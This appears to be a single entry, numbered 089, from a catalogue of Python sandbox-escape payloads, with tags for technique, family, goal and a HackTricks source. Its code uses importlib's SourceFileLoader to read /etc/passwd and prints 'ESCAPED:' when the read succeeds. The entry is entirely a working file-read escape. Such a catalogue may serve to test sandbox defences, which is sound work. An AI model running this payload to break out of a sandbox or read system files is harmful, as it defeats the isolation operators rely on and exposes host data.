# escape: 089
# technique: SourceFileLoader / spec_from_file_location read arbitrary files as "source"
# family: import
# goal: read-file
# first-seen: HackTricks
from importlib.machinery import SourceFileLoader
s = SourceFileLoader('x', '/etc/passwd').get_source if 0 else SourceFileLoader('x', '/etc/passwd').get_data('/etc/passwd')
if b'root:' in s: print('ESCAPED:', s[:9])
